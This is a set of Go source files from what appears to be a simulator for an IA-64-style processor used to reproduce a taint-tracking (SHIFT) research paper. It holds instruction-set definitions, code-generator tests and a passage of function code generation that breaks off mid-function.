		OpBrCall, OpBrRet, OpBrInd, OpMovToBr, OpMovFromBr, OpMovToUnat,
		OpMovFromUnat, OpMovToCcv, OpMovFromCcv, OpCmpxchg, OpSetNat,
		OpClrNat, OpSyscall, OpNop,
	}
	op := ops[rng.Intn(len(ops))]

	ins := Instruction{Op: op, Qp: uint8(rng.Intn(NumPR))}
	switch op {
	case OpAdd, OpSub, OpAnd, OpAndcm, OpOr, OpXor, OpShl, OpShr, OpSar, OpMul, OpDiv, OpRem:
		ins.Dest, ins.Src1, ins.Src2 = gr(), gr(), gr()
	case OpAddi, OpAndi, OpOri, OpXori, OpShli, OpShri, OpSari:
		ins.Dest, ins.Src1, ins.Imm = gr(), gr(), imm()
	case OpMov:
		ins.Dest, ins.Src1 = gr(), gr()
	case OpMovl:
		ins.Dest, ins.Imm = gr(), imm()
	case OpCmp, OpCmpNa:
		ins.P1, ins.P2, ins.Src1, ins.Src2, ins.Cond = pr(), pr(), gr(), gr(), cond()
	case OpCmpi, OpCmpiNa:
		ins.P1, ins.P2, ins.Src1, ins.Imm, ins.Cond = pr(), pr(), gr(), imm(), cond()
	case OpTnat:
		ins.P1, ins.P2, ins.Src1 = pr(), pr(), gr()
	case OpLd, OpLdS:
		ins.Dest, ins.Src1, ins.Size = gr(), gr(), size()
	case OpLdFill:
		ins.Dest, ins.Src1, ins.Size, ins.Imm = gr(), gr(), 8, int64(rng.Intn(64))
	case OpSt:
		ins.Src1, ins.Src2, ins.Size = gr(), gr(), size()
	case OpStSpill:
		ins.Src1, ins.Src2, ins.Size, ins.Imm = gr(), gr(), 8, int64(rng.Intn(64))
	case OpChkS:
		ins.Src1, ins.Target = gr(), rng.Intn(100)
	case OpBr:
		ins.Target = rng.Intn(100)
	case OpBrCall:
		ins.B, ins.Target = br(), rng.Intn(100)
	case OpBrRet, OpBrInd:
		ins.B = br()
	case OpMovToBr:
		ins.B, ins.Src1 = br(), gr()
	case OpMovFromBr:
		ins.Dest, ins.B = gr(), br()
	case OpMovToUnat, OpMovToCcv:
		ins.Src1 = gr()
	case OpMovFromUnat, OpMovFromCcv:
		ins.Dest = gr()
	case OpCmpxchg:
		ins.Dest, ins.Src1, ins.Src2, ins.Size = gr(), gr(), gr(), size()
	case OpSetNat, OpClrNat:
		ins.Dest = gr()
	case OpSyscall:
		ins.Imm = int64(1 + rng.Intn(15))
	}
	return ins
}
