// Package isa defines the instruction set of the simulated processor.
//
// The ISA is a 64-bit, IA-64-flavoured machine: 128 general registers each
// carrying a NaT (Not-a-Thing) deferred-exception bit, 64 one-bit predicate
// registers, 8 branch registers and a UNAT register collecting spilled NaT
// bits. It provides the speculation primitives SHIFT builds on — ld.s,
// chk.s, st8.spill/ld8.fill, tnat — plus the three instructions the paper
// proposes as minor architectural enhancements (setnat, clrnat, cmp.na),
// which the machine only accepts when the corresponding feature is enabled.
package isa

import "fmt"

// Register file geometry.
const (
	NumGR = 128 // general registers r0..r127; r0 is hardwired to zero
	NumPR = 64  // predicate registers p0..p63; p0 is hardwired to true
	NumBR = 8   // branch registers b0..b7
)

// Conventional register assignments used by the code generator and the
// instrumentation pass. The instrumentation registers are reserved: the
// code generator never allocates them, so the SHIFT pass may clobber them
// between any two instructions, mirroring how the paper's GCC pass runs
// after register allocation on registers it has set aside.
const (
	RegZero = 0   // always zero, never NaT
	RegRet  = 8   // function return value
	RegSP   = 12  // stack pointer
	RegGP   = 13  // global data pointer (base of the data region)
	RegTmp0 = 14  // first code-generator scratch register
	RegTmpN = 31  // last code-generator scratch register
	RegArg0 = 32  // first argument register
	RegArgN = 39  // last argument register
	RegLoc0 = 40  // first register-allocated local
	RegLocN = 107 // last register-allocated local

	RegKeep   = 119 // kept OffsetMask register (instrumentation, Optimize)
	RegInstr0 = 120 // first instrumentation scratch register
	RegInstrN = 126 // last instrumentation scratch register
	RegNaT    = 127 // holds value 0 with NaT set: the taint source register
)

// Opcode identifies an instruction.
type Opcode uint8

// Instruction opcodes.
const (
	OpInvalid Opcode = iota

	// ALU, register-register. NaT bits of both sources propagate (OR) to
	// the destination, except for the xor/sub same-register idioms which
	// the machine recognises as taint-clearing (paper §3.2).
	OpAdd
	OpSub
	OpAnd
	OpAndcm // and-complement: dest = src1 &^ src2
	OpOr
	OpXor
	OpShl
	OpShr // logical shift right
	OpSar // arithmetic shift right
	OpMul
	OpDiv // signed divide; divide by zero faults
	OpRem // signed remainder

	// ALU, register-immediate (src2 is Imm).
	OpAddi
	OpAndi
	OpOri
	OpXori
	OpShli
	OpShri
	OpSari

	// Moves. Movl carries a full 64-bit immediate and, like the Itanium
	// movl, occupies two issue slots (the cost model charges it double).
	OpMov  // dest = src1
	OpMovl // dest = Imm

	// Compares write two complementary predicates P1 and P2. The plain
	// forms are NaT-sensitive: if either source carries NaT, both target
	// predicates are cleared to zero (speculation-safe, DIFT-hostile,
	// paper §3.1). The .na forms (enhancement 3) ignore NaT and compare
	// the values. Cond selects the relation.
	OpCmp    // register-register
	OpCmpi   // register-immediate
	OpCmpNa  // NaT-aware register-register (requires FeatNaTAwareCmp)
	OpCmpiNa // NaT-aware register-immediate (requires FeatNaTAwareCmp)

	// Test NaT: P1 = NaT(src1), P2 = !NaT(src1). Never faults.
	OpTnat

	// Memory. Size selects the access width (1, 2, 4 or 8 bytes).
	OpLd      // non-speculative load; NaT address => NaT-consumption fault
	OpLdS     // speculative load; any fault sets NaT in dest, value 0
	OpLdFill  // ld8.fill: load 8 bytes and restore NaT from UNAT bit Imm
	OpSt      // non-speculative store; NaT address or NaT data faults
	OpStSpill // st8.spill: store 8 bytes, save NaT into UNAT bit Imm, no data fault

	// Speculation check: if NaT(src1), branch to Target (recovery code).
	OpChkS

	// Branches. Branch targets are instruction indices after linking.
	OpBr     // unconditional (subject to the qualifying predicate)
	OpBrCall // call: saves PC+1 into branch register B, jumps to Target
	OpBrRet  // return: jumps to branch register B
	OpBrInd  // indirect branch through branch register B

	// Branch-register moves. Moving a NaT'd value into a branch register
	// raises a NaT-consumption fault (the hardware half of policy L3).
	OpMovToBr   // B = src1
	OpMovFromBr // dest = B

	// UNAT moves (Itanium: mov ar.unat). Compiled code saves and
	// restores the UNAT application register around spill regions so
	// NaT bits survive nested function calls.
	OpMovToUnat   // UNAT = src1; a NaT'd source faults
	OpMovFromUnat // dest = UNAT

	// Compare-and-exchange (Itanium: cmpxchg with ar.ccv). The access
	// is atomic with respect to thread preemption: dest receives the
	// old memory value, and memory is replaced by src2 only when the
	// old value equals the CCV application register. The serialized-
	// tag-update mode builds its lock-free bitmap RMW on this.
	OpMovToCcv   // CCV = src1; a NaT'd source faults
	OpMovFromCcv // dest = CCV
	OpCmpxchg    // dest = [src1]; if dest == CCV then [src1] = src2

	// Proposed architectural enhancements (paper §4.4/§6.3). Illegal
	// unless the machine is configured with the matching feature.
	OpSetNat // set NaT of dest, value preserved (requires FeatSetClrNaT)
	OpClrNat // clear NaT of dest (requires FeatSetClrNaT)

	// System call: number in Imm, arguments in r32.. per the OS model.
	// Scalar arguments carrying NaT raise a NaT-consumption fault before
	// the handler runs (the hardware half of the syscall sink policies).
	OpSyscall

	OpNop

	// NumOpcodes is one past the last valid opcode; usable as an array
	// bound for per-opcode accounting.
	NumOpcodes
)

// Cond is a compare relation.
type Cond uint8

// Compare relations (signed unless suffixed U).
const (
	CondEQ Cond = iota
	CondNE
	CondLT
	CondLE
	CondGT
	CondGE
	CondLTU
	CondGEU
	CondLEU
	CondGTU

	// NumConds is the number of compare relations.
	NumConds
)

// CostClass attributes an instruction's cycles to a source, so the
// machine's accounting reproduces the paper's Figure 9 breakdown.
type CostClass uint8

// Cost classes. The load/store × compute/memory split is exactly the
// paper's Figure 9 axes.
const (
	ClassOrig         CostClass = iota // original program instruction
	ClassLoadCompute                   // tag-address computation for a load
	ClassLoadTagMem                    // tag bitmap access for a load
	ClassStoreCompute                  // tag-address computation for a store
	ClassStoreTagMem                   // tag bitmap access for a store
	ClassRelax                         // compare-relaxation sequence
	ClassNatGen                        // NaT generation / set / clear
	NumCostClasses
)

// String returns the class name used in reports.
func (c CostClass) String() string {
	switch c {
	case ClassOrig:
		return "orig"
	case ClassLoadCompute:
		return "ld-compute"
	case ClassLoadTagMem:
		return "ld-tag-mem"
	case ClassStoreCompute:
		return "st-compute"
	case ClassStoreTagMem:
		return "st-tag-mem"
	case ClassRelax:
		return "relax"
	case ClassNatGen:
		return "nat-gen"
	}
	return fmt.Sprintf("class(%d)", uint8(c))
}

// Instruction is one decoded instruction. The zero value is OpInvalid.
//
// Qp is the qualifying predicate: the instruction executes only when
// predicate Qp is true. Qp 0 (p0, hardwired true) means unconditional.
type Instruction struct {
	Op   Opcode
	Qp   uint8 // qualifying predicate register
	Dest uint8 // destination GR
	Src1 uint8 // first source GR
	Src2 uint8 // second source GR
	P1   uint8 // first target predicate (compares, tnat)
	P2   uint8 // second target predicate
	B    uint8 // branch register (calls, returns, br moves)
	Size uint8 // memory access width in bytes (1, 2, 4, 8)
	Cond Cond  // compare relation
	Imm  int64 // immediate / syscall number / UNAT bit index

	// Label is a symbolic branch target before linking; Target is the
	// resolved instruction index afterwards.
	Label  string
	Target int

	// Class attributes the instruction's cost (Figure 9 accounting).
	Class CostClass

	// ABI marks calling-convention bookkeeping (return-address and UNAT
	// saves, callee-save spills/fills, call-site temp preservation).
	// The instrumentation pass leaves such accesses alone: their NaT
	// bits travel through UNAT, not the memory bitmap, so they carry no
	// program data flow. Lost in textual round-trips.
	ABI bool

	// Sym names the label(s) attached to this instruction, if any; kept
	// for disassembly and diagnostics only.
	Sym string
}

// opInfo describes static properties of each opcode.
type opInfo struct {
	name     string
	hasDest  bool
	reads1   bool // reads Src1
	reads2   bool // reads Src2
	isImm    bool // uses Imm as an operand
	isMem    bool
	isBranch bool
}

var opTable = [NumOpcodes]opInfo{
	OpInvalid:     {name: "invalid"},
	OpAdd:         {name: "add", hasDest: true, reads1: true, reads2: true},
	OpSub:         {name: "sub", hasDest: true, reads1: true, reads2: true},
	OpAnd:         {name: "and", hasDest: true, reads1: true, reads2: true},
	OpAndcm:       {name: "andcm", hasDest: true, reads1: true, reads2: true},
	OpOr:          {name: "or", hasDest: true, reads1: true, reads2: true},
	OpXor:         {name: "xor", hasDest: true, reads1: true, reads2: true},
	OpShl:         {name: "shl", hasDest: true, reads1: true, reads2: true},
	OpShr:         {name: "shr", hasDest: true, reads1: true, reads2: true},
	OpSar:         {name: "sar", hasDest: true, reads1: true, reads2: true},
	OpMul:         {name: "mul", hasDest: true, reads1: true, reads2: true},
	OpDiv:         {name: "div", hasDest: true, reads1: true, reads2: true},
	OpRem:         {name: "rem", hasDest: true, reads1: true, reads2: true},
	OpAddi:        {name: "addi", hasDest: true, reads1: true, isImm: true},
	OpAndi:        {name: "andi", hasDest: true, reads1: true, isImm: true},
	OpOri:         {name: "ori", hasDest: true, reads1: true, isImm: true},
	OpXori:        {name: "xori", hasDest: true, reads1: true, isImm: true},
	OpShli:        {name: "shli", hasDest: true, reads1: true, isImm: true},
	OpShri:        {name: "shri", hasDest: true, reads1: true, isImm: true},
	OpSari:        {name: "sari", hasDest: true, reads1: true, isImm: true},
	OpMov:         {name: "mov", hasDest: true, reads1: true},
	OpMovl:        {name: "movl", hasDest: true, isImm: true},
	OpCmp:         {name: "cmp", reads1: true, reads2: true},
	OpCmpi:        {name: "cmpi", reads1: true, isImm: true},
	OpCmpNa:       {name: "cmp.na", reads1: true, reads2: true},
	OpCmpiNa:      {name: "cmpi.na", reads1: true, isImm: true},
	OpTnat:        {name: "tnat", reads1: true},
	OpLd:          {name: "ld", hasDest: true, reads1: true, isMem: true},
	OpLdS:         {name: "ld.s", hasDest: true, reads1: true, isMem: true},
	OpLdFill:      {name: "ld8.fill", hasDest: true, reads1: true, isMem: true, isImm: true},
	OpSt:          {name: "st", reads1: true, reads2: true, isMem: true},
	OpStSpill:     {name: "st8.spill", reads1: true, reads2: true, isMem: true, isImm: true},
	OpChkS:        {name: "chk.s", reads1: true, isBranch: true},
	OpBr:          {name: "br", isBranch: true},
	OpBrCall:      {name: "br.call", isBranch: true},
	OpBrRet:       {name: "br.ret", isBranch: true},
	OpBrInd:       {name: "br.ind", isBranch: true},
	OpMovToBr:     {name: "mov.tobr", reads1: true},
	OpMovFromBr:   {name: "mov.frombr", hasDest: true},
	OpMovToUnat:   {name: "mov.tounat", reads1: true},
	OpMovFromUnat: {name: "mov.fromunat", hasDest: true},
	OpMovToCcv:    {name: "mov.toccv", reads1: true},
	OpMovFromCcv:  {name: "mov.fromccv", hasDest: true},
	OpCmpxchg:     {name: "cmpxchg", hasDest: true, reads1: true, reads2: true, isMem: true},
	OpSetNat:      {name: "setnat", hasDest: true},
	OpClrNat:      {name: "clrnat", hasDest: true},
	OpSyscall:     {name: "syscall", isImm: true},
	OpNop:         {name: "nop"},
}

// HasDest reports whether op writes a destination general register.
func (op Opcode) HasDest() bool { return opTable[op].hasDest }

// ReadsSrc1 reports whether op reads the Src1 general register.
func (op Opcode) ReadsSrc1() bool { return opTable[op].reads1 }

// ReadsSrc2 reports whether op reads the Src2 general register.
func (op Opcode) ReadsSrc2() bool { return opTable[op].reads2 }

// Name returns the mnemonic for the opcode.
func (op Opcode) Name() string {
	if int(op) < len(opTable) && opTable[op].name != "" {
		return opTable[op].name
	}
	return fmt.Sprintf("op(%d)", uint8(op))
}

// Valid reports whether op is a defined opcode.
func (op Opcode) Valid() bool { return op > OpInvalid && op < NumOpcodes }

// IsMem reports whether op accesses data memory.
func (op Opcode) IsMem() bool { return opTable[op].isMem }

// IsBranch reports whether op can redirect control flow.
func (op Opcode) IsBranch() bool { return opTable[op].isBranch }

// IsLoad reports whether op is one of the load forms.
func (op Opcode) IsLoad() bool {
	return op == OpLd || op == OpLdS || op == OpLdFill
}

// IsStore reports whether op is one of the store forms.
func (op Opcode) IsStore() bool { return op == OpSt || op == OpStSpill }

// IsCompare reports whether op is one of the compare forms.
func (op Opcode) IsCompare() bool {
	return op == OpCmp || op == OpCmpi || op == OpCmpNa || op == OpCmpiNa
}

// condNames maps a relation to its mnemonic suffix.
var condNames = [...]string{
	CondEQ: "eq", CondNE: "ne", CondLT: "lt", CondLE: "le",
	CondGT: "gt", CondGE: "ge", CondLTU: "ltu", CondGEU: "geu",
	CondLEU: "leu", CondGTU: "gtu",
}

// String returns the relation's mnemonic suffix.
func (c Cond) String() string {
	if int(c) < len(condNames) {
		return condNames[c]
	}
	return fmt.Sprintf("cond(%d)", uint8(c))
}

// CondFromString parses a relation suffix; ok is false if unknown.
func CondFromString(s string) (Cond, bool) {
	for i, n := range condNames {
		if n == s {
			return Cond(i), true
		}
	}
	return 0, false
}

// Eval applies the relation to two values.
func (c Cond) Eval(a, b int64) bool {
	switch c {
	case CondEQ:
		return a == b
	case CondNE:
		return a != b
	case CondLT:
		return a < b
	case CondLE:
		return a <= b
	case CondGT:
		return a > b
	case CondGE:
		return a >= b
	case CondLTU:
		return uint64(a) < uint64(b)
	case CondGEU:
		return uint64(a) >= uint64(b)
	case CondLEU:
		return uint64(a) <= uint64(b)
	case CondGTU:
		return uint64(a) > uint64(b)
	}
	return false
}

// Negate returns the complementary relation.
func (c Cond) Negate() Cond {
	switch c {
	case CondEQ:
		return CondNE
	case CondNE:
		return CondEQ
	case CondLT:
		return CondGE
	case CondLE:
		return CondGT
	case CondGT:
		return CondLE
	case CondGE:
		return CondLT
	case CondLTU:
		return CondGEU
	case CondGEU:
		return CondLTU
	case CondLEU:
		return CondGTU
	case CondGTU:
		return CondLEU
	}
	return c
}

// target renders the branch destination of i for disassembly.
func (i *Instruction) target() string {
	if i.Label != "" {
		return i.Label
	}
	return fmt.Sprintf("@%d", i.Target)
}

// String disassembles the instruction into the textual syntax accepted by
// the assembler in internal/asm.
func (i *Instruction) String() string {
	qp := ""
	if i.Qp != 0 {
		qp = fmt.Sprintf("(p%d) ", i.Qp)
	}
	info := opTable[i.Op]
	switch i.Op {
	case OpMov:
		return fmt.Sprintf("%smov r%d = r%d", qp, i.Dest, i.Src1)
	case OpMovl:
		return fmt.Sprintf("%smovl r%d = %d", qp, i.Dest, i.Imm)
	case OpCmp, OpCmpNa:
		return fmt.Sprintf("%s%s.%s p%d, p%d = r%d, r%d", qp, info.name, i.Cond, i.P1, i.P2, i.Src1, i.Src2)
	case OpCmpi, OpCmpiNa:
		return fmt.Sprintf("%s%s.%s p%d, p%d = r%d, %d", qp, info.name, i.Cond, i.P1, i.P2, i.Src1, i.Imm)
	case OpTnat:
		return fmt.Sprintf("%stnat p%d, p%d = r%d", qp, i.P1, i.P2, i.Src1)
	case OpLd, OpLdS:
		suffix := ""
		if i.Op == OpLdS {
			suffix = ".s"
		}
		return fmt.Sprintf("%sld%d%s r%d = [r%d]", qp, i.Size, suffix, i.Dest, i.Src1)
	case OpLdFill:
		return fmt.Sprintf("%sld8.fill r%d = [r%d], %d", qp, i.Dest, i.Src1, i.Imm)
	case OpSt:
		return fmt.Sprintf("%sst%d [r%d] = r%d", qp, i.Size, i.Src1, i.Src2)
	case OpStSpill:
		return fmt.Sprintf("%sst8.spill [r%d] = r%d, %d", qp, i.Src1, i.Src2, i.Imm)
	case OpChkS:
		return fmt.Sprintf("%schk.s r%d, %s", qp, i.Src1, i.target())
	case OpBr:
		return fmt.Sprintf("%sbr %s", qp, i.target())
	case OpBrCall:
		return fmt.Sprintf("%sbr.call b%d = %s", qp, i.B, i.target())
	case OpBrRet:
		return fmt.Sprintf("%sbr.ret b%d", qp, i.B)
	case OpBrInd:
		return fmt.Sprintf("%sbr.ind b%d", qp, i.B)
	case OpMovToBr:
		return fmt.Sprintf("%smov b%d = r%d", qp, i.B, i.Src1)
	case OpMovFromBr:
		return fmt.Sprintf("%smov r%d = b%d", qp, i.Dest, i.B)
	case OpMovToUnat:
		return fmt.Sprintf("%smov unat = r%d", qp, i.Src1)
	case OpMovFromUnat:
		return fmt.Sprintf("%smov r%d = unat", qp, i.Dest)
	case OpMovToCcv:
		return fmt.Sprintf("%smov ccv = r%d", qp, i.Src1)
	case OpMovFromCcv:
		return fmt.Sprintf("%smov r%d = ccv", qp, i.Dest)
	case OpCmpxchg:
		return fmt.Sprintf("%scmpxchg%d r%d = [r%d], r%d", qp, i.Size, i.Dest, i.Src1, i.Src2)
	case OpSetNat:
		return fmt.Sprintf("%ssetnat r%d", qp, i.Dest)
	case OpClrNat:
		return fmt.Sprintf("%sclrnat r%d", qp, i.Dest)
	case OpSyscall:
		return fmt.Sprintf("%ssyscall %d", qp, i.Imm)
	case OpNop:
		return qp + "nop"
	}
	if info.hasDest && info.reads1 && info.reads2 {
		return fmt.Sprintf("%s%s r%d = r%d, r%d", qp, info.name, i.Dest, i.Src1, i.Src2)
	}
	if info.hasDest && info.reads1 && info.isImm {
		return fmt.Sprintf("%s%s r%d = r%d, %d", qp, info.name, i.Dest, i.Src1, i.Imm)
	}
	return qp + info.name
}

// Validate checks structural well-formedness (register ranges, sizes).
func (i *Instruction) Validate() error {
	if !i.Op.Valid() {
		return fmt.Errorf("isa: invalid opcode %d", i.Op)
	}
	if i.Qp >= NumPR || i.P1 >= NumPR || i.P2 >= NumPR {
		return fmt.Errorf("isa: %s: predicate register out of range", i.Op.Name())
	}
	if int(i.Dest) >= NumGR || int(i.Src1) >= NumGR || int(i.Src2) >= NumGR {
		return fmt.Errorf("isa: %s: general register out of range", i.Op.Name())
	}
	if i.B >= NumBR {
		return fmt.Errorf("isa: %s: branch register out of range", i.Op.Name())
	}
	if i.Op.IsMem() {
		switch i.Size {
		case 1, 2, 4, 8:
		default:
			return fmt.Errorf("isa: %s: bad access size %d", i.Op.Name(), i.Size)
		}
		if (i.Op == OpLdFill || i.Op == OpStSpill) && i.Size != 8 {
			return fmt.Errorf("isa: %s: spill/fill must be 8 bytes", i.Op.Name())
		}
		if i.Op == OpLdFill || i.Op == OpStSpill {
			if i.Imm < 0 || i.Imm >= 64 {
				return fmt.Errorf("isa: %s: UNAT bit %d out of range", i.Op.Name(), i.Imm)
			}
		}
	}
	if opTable[i.Op].hasDest && i.Dest == RegZero &&
		i.Op != OpNop {
		return fmt.Errorf("isa: %s: r0 is read-only", i.Op.Name())
	}
	return nil
}
