package codegen

import (
	"reflect"
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/lang"
	"shift/internal/loader"
	"shift/internal/machine"
)

// exitOS handles the exit syscall for direct-machine tests.
type exitOS struct{}

func (exitOS) Syscall(m *machine.Machine, num int64) (uint64, *machine.Trap) {
	if num == isa.SysExit {
		m.Halt(m.GR[isa.RegArg0])
		return 0, nil
	}
	return 0, &machine.Trap{Kind: machine.TrapHostError, PC: m.PC, Ins: "syscall"}
}

func compile(t *testing.T, src string) *isa.Program {
	t.Helper()
	f, err := lang.Parse("test.mc", src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	u, err := lang.Check(f)
	if err != nil {
		t.Fatalf("check: %v", err)
	}
	p, err := Compile(u)
	if err != nil {
		t.Fatalf("compile: %v", err)
	}
	return p
}

func TestEntryAndSymbols(t *testing.T) {
	p := compile(t, `
int helper(int x) { return x + 1; }
void main() { exit(helper(1)); }
`)
	if p.Entry != p.Symbols["__start"] {
		t.Errorf("entry %d != __start %d", p.Entry, p.Symbols["__start"])
	}
	for _, sym := range []string{"main", "helper"} {
		if _, ok := p.Symbols[sym]; !ok {
			t.Errorf("missing symbol %q", sym)
		}
	}
}

func TestGlobalLayout(t *testing.T) {
	p := compile(t, `
int a = 7;
char msg[16] = "hi";
int tbl[3] = {1, 2, 3};
char *s = "literal";
void main() { exit(0); }
`)
	// Every global is 8-aligned.
	for _, name := range []string{"a", "msg", "tbl", "s"} {
		addr, ok := p.DataSymbols[name]
		if !ok {
			t.Fatalf("missing data symbol %q", name)
		}
		if addr%8 != 0 {
			t.Errorf("%s at %#x not 8-aligned", name, addr)
		}
	}
	// Initial values land in the data image.
	off := func(name string) uint64 { return p.DataSymbols[name] - p.DataBase }
	if p.Data[off("a")] != 7 {
		t.Errorf("a initialised to %d", p.Data[off("a")])
	}
	if string(p.Data[off("msg"):off("msg")+3]) != "hi\x00" {
		t.Errorf("msg = %q", p.Data[off("msg"):off("msg")+3])
	}
	if p.Data[off("tbl")+16] != 3 {
		t.Error("tbl[2] not initialised")
	}
	// s points at an interned literal holding "literal".
	var ptr uint64
	for i := 0; i < 8; i++ {
		ptr |= uint64(p.Data[off("s")+uint64(i)]) << (8 * i)
	}
	lit := ptr - p.DataBase
	if string(p.Data[lit:lit+8]) != "literal\x00" {
		t.Errorf("s points at %q", p.Data[lit:lit+8])
	}
}

func TestStringInterning(t *testing.T) {
	p := compile(t, `
void main() {
	print_str2("dup");
	print_str2("dup");
	exit(0);
}
void print_str2(char *s) { write(1, s, strlen2(s)); }
int strlen2(char *s) { int n = 0; while (s[n]) n++; return n; }
`)
	count := 0
	for i := 0; i+4 <= len(p.Data); i++ {
		if string(p.Data[i:i+4]) == "dup\x00" {
			count++
		}
	}
	if count != 1 {
		t.Errorf("literal %q interned %d times, want 1", "dup", count)
	}
}

func TestABIMarkers(t *testing.T) {
	p := compile(t, `
int add2(int a, int b) { return a + b; }
void main() { exit(add2(1, 2)); }
`)
	// Prologue/epilogue bookkeeping is ABI-marked; spills and fills are
	// always ABI.
	for i := range p.Text {
		ins := &p.Text[i]
		if (ins.Op == isa.OpStSpill || ins.Op == isa.OpLdFill) && !ins.ABI {
			t.Errorf("instruction %d: %s not ABI-marked", i, ins)
		}
	}
	// Non-ABI loads, stores and compares are unpredicated (required by
	// the instrumentation pass).
	for i := range p.Text {
		ins := &p.Text[i]
		if ins.ABI {
			continue
		}
		switch ins.Op {
		case isa.OpLd, isa.OpSt, isa.OpCmp, isa.OpCmpi:
			if ins.Qp != 0 {
				t.Errorf("instruction %d: predicated %s", i, ins)
			}
		}
	}
}

func TestReservedRegistersUntouched(t *testing.T) {
	// Generated code must never write the instrumentation registers
	// r120..r127 or predicates p8..p11.
	p := compile(t, `
int fib(int n) { if (n < 2) return n; return fib(n-1) + fib(n-2); }
void main() {
	char buf[32];
	int n = recv(buf, 32);
	int i;
	int s = 0;
	for (i = 0; i < n; i++) s += buf[i] ? fib(6) : 1;
	exit(s > 0 ? 0 : 1);
}
`)
	for i := range p.Text {
		ins := &p.Text[i]
		if ins.Dest >= isa.RegInstr0 && ins.Op != isa.OpNop {
			t.Errorf("instruction %d writes reserved register: %s", i, ins)
		}
		for _, pr := range []uint8{ins.P1, ins.P2, ins.Qp} {
			if pr >= 8 && pr <= 11 {
				t.Errorf("instruction %d touches reserved predicate: %s", i, ins)
			}
		}
	}
}

func TestDeterministicCompilation(t *testing.T) {
	src := `
int g[4] = {4, 3, 2, 1};
int sum(int *p, int n) { int s = 0; int i; for (i = 0; i < n; i++) s += p[i]; return s; }
void main() { exit(sum(g, 4)); }
`
	p1 := compile(t, src)
	p2 := compile(t, src)
	if !reflect.DeepEqual(p1.Text, p2.Text) || !reflect.DeepEqual(p1.Data, p2.Data) {
		t.Error("compilation is not deterministic")
	}
}

func TestExpressionTooDeep(t *testing.T) {
	expr := "1"
	for i := 0; i < 30; i++ {
		expr = "1 + (" + expr + ")"
	}
	// Deep right-nesting like this needs one temp per level; the
	// generator must fail cleanly rather than corrupt registers.
	src := "void main() { int x = " + expr + "; exit(x); }"
	f, err := lang.Parse("deep.mc", src)
	if err != nil {
		t.Fatal(err)
	}
	u, err := lang.Check(f)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Compile(u); err == nil {
		t.Error("expected a too-deep-expression error")
	}
}

func TestBranchesCarryLabels(t *testing.T) {
	// The instrumentation pass relies on every generated branch having
	// either a label or a remappable target.
	p := compile(t, `
void main() {
	int i;
	int s = 0;
	for (i = 0; i < 3; i++) { if (i == 1) continue; s += i; }
	while (s > 2) { s--; break; }
	exit(s);
}
`)
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	for i := range p.Text {
		ins := &p.Text[i]
		if (ins.Op == isa.OpBr || ins.Op == isa.OpBrCall) && ins.Label == "" {
			t.Errorf("instruction %d: %s has no label", i, ins)
		}
	}
}

// TestDisassembleReassembleExecutes: the textual assembly shiftcc prints
// is complete enough to reassemble and run to the same result (the ABI
// markers are metadata for the instrumentation pass, not semantics).
func TestDisassembleReassembleExecutes(t *testing.T) {
	src := `
int acc;
int step(int v) { acc += v; return acc; }
void main() {
	int i;
	for (i = 1; i <= 10; i++) step(i);
	exit(acc);
}
`
	p1 := compile(t, src)
	text := p1.Disassemble()
	// Data directives are not part of Disassemble; rebuild the program
	// with the original data image.
	p2, err := asm.Assemble(text, asm.Options{DataBase: p1.DataBase})
	if err != nil {
		t.Fatalf("reassemble: %v\n%s", err, text)
	}
	p2.Data = p1.Data
	p2.DataSymbols = p1.DataSymbols
	p2.Entry = p2.Symbols["__start"]

	run := func(p *isa.Program) int64 {
		img, err := loader.Load(p)
		if err != nil {
			t.Fatal(err)
		}
		m := img.NewMachine()
		m.OS = exitOS{}
		if trap := m.Run(); trap != nil {
			t.Fatal(trap)
		}
		return m.ExitStatus
	}
	if a, b := run(p1), run(p2); a != b || a != 55 {
		t.Errorf("exit codes diverge: %d vs %d (want 55)", a, b)
	}
}
