package codegen

import (
	"fmt"

	"shift/internal/isa"
	"shift/internal/lang"
)

// maxLocalRegs bounds register-allocated locals per function: their
// callee-save spills use UNAT bits 32..63.
const maxLocalRegs = 32

// fnGen generates one function.
type fnGen struct {
	g  *gen
	fn *lang.FuncDecl

	depth    int // expression temporaries in use (r14+depth is next free)
	maxDepth int

	regHome map[interface{}]uint8 // *VarDecl / *Param -> register
	memHome map[interface{}]int64 // *VarDecl / *Param -> frame offset

	savedRegs []uint8 // register homes to preserve, ascending
	frameSize int64
	tempSpill int64 // frame offset of the temp-preservation area

	retLabel  string
	breakLbls []string
	contLbls  []string
}

func (g *gen) genFunc(fn *lang.FuncDecl) error {
	f := &fnGen{
		g:       g,
		fn:      fn,
		regHome: make(map[interface{}]uint8),
		memHome: make(map[interface{}]int64),
	}
	return f.generate()
}

// collectLocals walks the body gathering every local declaration.
func collectLocals(s lang.Stmt, visit func(*lang.VarDecl)) {
	switch s := s.(type) {
	case *lang.Block:
		for _, st := range s.Stmts {
			collectLocals(st, visit)
		}
	case *lang.DeclStmt:
		visit(s.Decl)
	case *lang.IfStmt:
		collectLocals(s.Then, visit)
		if s.Else != nil {
			collectLocals(s.Else, visit)
		}
	case *lang.WhileStmt:
		collectLocals(s.Body, visit)
	case *lang.ForStmt:
		if s.Init != nil {
			collectLocals(s.Init, visit)
		}
		collectLocals(s.Body, visit)
	}
}

func (f *fnGen) generate() error {
	// --- Allocation -----------------------------------------------------
	nextReg := uint8(isa.RegLoc0)
	memOff := int64(0) // laid out after the saved-register area; patched below

	home := func(key interface{}, scalar bool, size int64) {
		if scalar && nextReg <= isa.RegLocN && len(f.savedRegs) < maxLocalRegs {
			f.regHome[key] = nextReg
			f.savedRegs = append(f.savedRegs, nextReg)
			nextReg++
			return
		}
		// 8-byte align every memory home.
		memOff = (memOff + 7) &^ 7
		f.memHome[key] = memOff
		memOff += (size + 7) &^ 7
	}

	for _, p := range f.fn.Params {
		home(p, true, 8)
	}
	collectLocals(f.fn.Body, func(d *lang.VarDecl) {
		scalar := !d.IsArray() && !d.AddrUsed
		home(d, scalar, d.StorageSize())
	})

	savedArea := int64(len(f.savedRegs)) * 8
	localsBase := frameSaved + savedArea
	// Rebase memory homes now that the saved area size is known.
	for k, off := range f.memHome {
		f.memHome[k] = localsBase + off
	}
	f.tempSpill = localsBase + ((memOff + 7) &^ 7)
	f.frameSize = f.tempSpill + tempCount*8
	f.frameSize = (f.frameSize + 15) &^ 15

	f.retLabel = f.g.newLabel(f.fn.Name + ".ret")

